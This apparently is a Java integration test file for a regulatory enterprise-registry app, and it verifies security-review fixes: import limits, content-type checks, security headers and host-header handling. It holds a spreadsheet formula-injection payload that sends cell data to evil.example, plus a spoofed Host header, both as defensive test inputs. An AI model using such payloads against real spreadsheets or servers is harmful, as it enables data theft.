package cn.capacityexit.security;

import static org.assertj.core.api.Assertions.assertThat;

import cn.capacityexit.rectification.RectificationProcess;
import cn.capacityexit.registry.CapacityExits;
import cn.capacityexit.registry.CreditCode;
import cn.capacityexit.support.Http;
import cn.capacityexit.support.IntegrationTest;
import com.fasterxml.jackson.databind.JsonNode;
import java.io.ByteArrayInputStream;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.camunda.bpm.engine.ProcessEngine;
import org.camunda.bpm.engine.task.Task;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;

/**
 * Findings of the security review, each shown fixed through the running application: the CSV
 * import bounded and closed to cross-site forms, exports without live formulas, a feed whose
 * links the request cannot change, public lists that keep the name as published, and the public
 * site's security headers. (The complaint limiter is keyed on the connection's address, the same
 * for every request here: see ComplaintRateLimiterTest and PublicComplaintControllerTest.)
 */
class HardeningIntegrationTests extends IntegrationTest {

  private static final String HEADER = "creditCode,name,jurisdiction,sector,address\n";
  private static final AtomicInteger SEQUENCE = new AtomicInteger();

  @Autowired
  CapacityExits exits;
  @Autowired
  ProcessEngine engine;

  private static String code(String jurisdiction, int n) {
    String first17 = "91" + jurisdiction + String.format("%09d", 880000000 + n * 37);
    return first17 + CreditCode.checkCharacter(first17);
  }

  private static String next(String jurisdiction) {
    return code(jurisdiction, SEQUENCE.incrementAndGet());
  }

  private static String header(Http.Response r, String name) {
    return r.headers().entrySet().stream().filter(e -> e.getKey().equalsIgnoreCase(name))
        .map(e -> e.getValue().get(0)).findFirst().orElse(null);
  }

  @Test
  void anImportOverTheRowLimitIsRefusedWithTheLimitAndNothingWritten() {
    Http jining = http().as("jining-miit");
    StringBuilder csv = new StringBuilder(HEADER);
    String first = code("370800", 100_000);
    for (int i = 0; i < 10_001; i++) {
      csv.append(code("370800", 100_000 + i)).append(",上限测试企业").append(i).append(",370800,CEMENT,济宁\n");
    }
    Http.Response refused = jining.send("POST", "/api/enterprises/import", "text/csv", csv.toString());
    assertThat(refused.status()).isEqualTo(413);
    assertThat(refused.json().get("message").asText()).isEqualTo("导入文件超过上限：最多10000行");
    assertThat(jining.get("/api/enterprises/" + first).status()).isEqualTo(404);
  }

  @Test
  void anImportOverTheByteLimitIsRefusedWithTheLimitAndNothingWritten() {
    Http jining = http().as("jining-miit");
    String code = next("370800");
    String csv = HEADER + code + ",超大文件企业,370800,CEMENT," + "a".repeat(5 * 1024 * 1024) + "\n";
    Http.Response refused = jining.send("POST", "/api/enterprises/import", "text/csv", csv);
    assertThat(refused.status()).isEqualTo(413);
    assertThat(refused.json().get("message").asText()).isEqualTo("导入文件超过上限：最多5MB");
    assertThat(jining.get("/api/enterprises/" + code).status()).isEqualTo(404);
  }

  @Test
  void theImportTakesTextCsvOnlySoThatNoFormOfAnotherSiteCanPostIt() {
    Http jining = http().as("jining-miit");
    String code = next("370800");
    String csv = HEADER + code + ",内容类型测试企业,370800,CEMENT,济宁\n";
    for (String type : List.of("text/plain", "text/plain;charset=UTF-8", "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x")) {
      Http.Response refused = jining.send("POST", "/api/enterprises/import", type, csv);
      assertThat(refused.status()).as(type).isEqualTo(415);
      assertThat(refused.json().get("message").asText()).as(type).startsWith("不支持的内容类型").contains("text/csv");
    }
    assertThat(jining.get("/api/enterprises/" + code).status()).isEqualTo(404);
    Http.Response ok = jining.send("POST", "/api/enterprises/import", "text/csv;charset=UTF-8", csv);
    assertThat(ok.status()).as(ok.body()).isEqualTo(200);
    assertThat(jining.get("/api/enterprises/" + code).json().get("name").asText()).isEqualTo("内容类型测试企业");
  }

  @Test
  void tenThousandBadRowsGetTheReportOfEveryRow() {
    StringBuilder csv = new StringBuilder(HEADER);
    for (int i = 0; i < 10_000; i++) {
      csv.append("X").append(i).append(",,999999,BAKERY,\n");
    }
    Http.Response refused = http().as("jining-miit").send("POST", "/api/enterprises/import", "text/csv", csv.toString());
    assertThat(refused.status()).isEqualTo(400);
    JsonNode errors = refused.json().get("errors");
    assertThat(errors).hasSize(40_000);
    JsonNode last = errors.get(errors.size() - 1);
    assertThat(last.get("row").asInt()).isEqualTo(10_000);
    assertThat(last.get("field").asText()).isEqualTo("sector");
  }

  @Test
  void anEnterpriseNamedLikeAFormulaIsPlainTextInTheProvincesCsvAndXlsx() throws Exception {
    String name = "=HYPERLINK(\"http://evil.example/?x=\"&C2)";
    String code = next("370800");
    Http jining = http().as("jining-miit");
    assertThat(jining.post("/api/enterprises", Map.of("creditCode", code, "name", name, "jurisdiction", "370800",
        "sector", "CEMENT")).status()).isEqualTo(201);
    long line = jining.post("/api/enterprises/" + code + "/production-lines", Map.of("name", "-1号线", "equipmentType", "@回转窑",
        "capacity", 1500, "capacityUnit", "吨/日")).json().get("id").asLong();
    exits.record(line, null, "TECHNOLOGY", CapacityExits.Method.DISMANTLED, LocalDate.of(2019, 6, 1));

    String auth = "Basic " + Base64.getEncoder().encodeToString("shandong-miit:demo".getBytes(StandardCharsets.UTF_8));
    HttpClient client = HttpClient.newHttpClient();
    String table = "http://localhost:" + port + "/api/reports/annual-exits?jurisdiction=370000&year=2019&format=";
    String csv = client.send(HttpRequest.newBuilder(URI.create(table + "csv")).header("Authorization", auth).build(),
        HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8)).body();
    String row = csv.lines().filter(l -> l.contains(code)).findFirst().orElseThrow();
    assertThat(row).contains(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&C2)\"," + code + ",水泥,'-1号线,'@回转窑,1500,吨/日,")
        .doesNotContain("\"=HYPERLINK");

    byte[] xlsx = client.send(HttpRequest.newBuilder(URI.create(table + "xlsx")).header("Authorization", auth).build(),
        HttpResponse.BodyHandlers.ofByteArray()).body();
    try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
      Sheet rows = book.getSheetAt(0);
      Row found = null;
      for (int i = 1; i <= rows.getLastRowNum(); i++) {
        if (rows.getRow(i).getCell(2).getStringCellValue().equals(code)) {
          found = rows.getRow(i);
        }
      }
      assertThat(found).isNotNull();
      assertThat(found.getCell(1).getStringCellValue()).isEqualTo("'" + name);
      assertThat(found.getCell(4).getStringCellValue()).isEqualTo("'-1号线");
      assertThat(found.getCell(5).getStringCellValue()).isEqualTo("'@回转窑");
      assertThat(found.getCell(6).getNumericCellValue()).isEqualTo(1500.0);
    }
  }

  @Test
  void theFeedsLinksComeFromTheConfiguredAddressNotFromTheHostHeader() throws Exception {
    String response;
    try (Socket socket = new Socket("localhost", port)) {
      OutputStream out = socket.getOutputStream();
      out.write(("GET /public/announcements/feed.atom HTTP/1.1\r\nHost: evil.example\r\nX-Forwarded-Host: evil.example\r\n"
          + "Connection: close\r\n\r\n").getBytes(StandardCharsets.US_ASCII));
      out.flush();
      InputStream in = socket.getInputStream();
      response = new String(in.readAllBytes(), StandardCharsets.UTF_8);
    }
    assertThat(response).startsWith("HTTP/1.1 200")
        .contains("<link rel=\"self\" href=\"http://localhost:8080/public/announcements/feed.atom\"/>")
        .doesNotContain("evil.example");
  }

  @Test
  void aYellowListedEnterpriseRenamedLaterKeepsItsNameOnThePublishedList() {
    String code = next("371000");
    String listedName = "威海改名前水泥有限公司" + SEQUENCE.get();
    String newName = "威海改名后建材有限公司" + SEQUENCE.get();
    Http weihai = http().as("weihai-miit");
    assertThat(weihai.post("/api/enterprises", Map.of("creditCode", code, "name", listedName, "jurisdiction", "371000",
        "sector", "CEMENT")).status()).isEqualTo(201);
    assertThat(weihai.post("/api/enterprises/" + code + "/production-lines", Map.of("name", "1号生产线", "equipmentType", "回转窑",
        "capacity", 30, "capacityUnit", "万吨/年")).status()).isEqualTo(201);
    Http.Response opened = weihai.post("/api/cases", Map.of("enterpriseCreditCode", code, "dimension", "ENERGY",
        "severity", "NORMAL", "findingDate", java.time.LocalDate.now(java.time.ZoneId.of("Asia/Shanghai")).toString(), "description", "能耗检查发现不达标"));
    assertThat(opened.status()).as(opened.body()).isEqualTo(201);
    String number = opened.json().get("caseNumber").asText();
    Task notice = engine.getTaskService().createTaskQuery().processInstanceBusinessKey(number)
        .taskDefinitionKey(RectificationProcess.TASK_ISSUE_NOTICE).singleResult();
    Http.Response issued = weihai.post("/engine-rest/task/" + notice.getId() + "/complete", Map.of("variables", Map.of(
        "rectificationRequirements", Map.of("value", "6个月内达到能耗限额标准", "type", "String"))));
    assertThat(issued.status()).as(issued.body()).isEqualTo(204);
    Task service = engine.getTaskService().createTaskQuery().processInstanceBusinessKey(number)
        .taskDefinitionKey(RectificationProcess.TASK_RECORD_NOTICE_SERVICE).singleResult();
    Http.Response served = weihai.post("/engine-rest/task/" + service.getId() + "/complete", Map.of("variables", Map.of(
        RectificationProcess.SERVICE_METHOD, Map.of("value", "DIRECT", "type", "String"),
        RectificationProcess.SEAL, Map.of("value", "INK", "type", "String"),
        RectificationProcess.SERVED_ON, Map.of("value", java.time.LocalDate.now(java.time.ZoneId.of("Asia/Shanghai")).toString(), "type", "String"))));
    assertThat(served.status()).as(served.body()).isEqualTo(204);

    Http.Response renamed = weihai.put("/api/enterprises/" + code, Map.of("name", newName, "jurisdiction", "371000",
        "sector", "CEMENT"));
    assertThat(renamed.status()).as(renamed.body()).isEqualTo(200);
    assertThat(weihai.get("/api/enterprises/" + code).json().get("name").asText()).isEqualTo(newName);

    JsonNode yellow = http().get("/api/public/lists/yellow?jurisdiction=371000").json();
    assertThat(yellow).filteredOn(e -> e.get("creditCode").asText().equals(code)).singleElement()
        .satisfies(e -> assertThat(e.get("enterpriseName").asText()).isEqualTo(listedName));
    assertThat(http().get("/public/lists?jurisdiction=371000").body()).contains(listedName).doesNotContain(newName);
  }

  @Test
  void thePublicSiteSendsSecurityHeadersAndHasNoInlineScript() {
    Http anyone = http();
    for (String path : List.of("/public/lists", "/public/announcements", "/public/announcements/feed.atom", "/public/legal-basis",
        "/api/public/legal-basis",
        "/api/public/lists/red", "/api/public/announcements", "/public/assets/complaint.js", "/public/assets/public.css")) {
      Http.Response r = anyone.get(path);
      assertThat(r.status()).as(path).isEqualTo(200);
      assertThat(header(r, "Content-Security-Policy")).as(path)
          .contains("default-src 'self'").contains("frame-ancestors 'none'").doesNotContain("unsafe-inline");
      assertThat(header(r, "X-Frame-Options")).as(path).isEqualTo("DENY");
      assertThat(header(r, "X-Content-Type-Options")).as(path).isEqualTo("nosniff");
      assertThat(header(r, "Referrer-Policy")).as(path).isEqualTo("no-referrer");
    }
    assertThat(header(anyone.get("/public/assets/complaint.js"), "Content-Type")).contains("javascript");
    assertThat(header(anyone.get("/public/assets/public.css"), "Content-Type")).contains("text/css");
    assertThat(anyone.get("/public/legal-basis").body()).contains("法规依据").contains("鲁工信产〔2022〕124号").contains("已实现");
    assertThat(anyone.get("/api/public/legal-basis").json().get("plans")).hasSize(5);
    String page = anyone.get("/public/lists").body();
    assertThat(page).contains("<link rel=\"stylesheet\" href=\"/public/assets/public.css\">").doesNotContain("<style")
        .doesNotContain("<script>");
  }
}
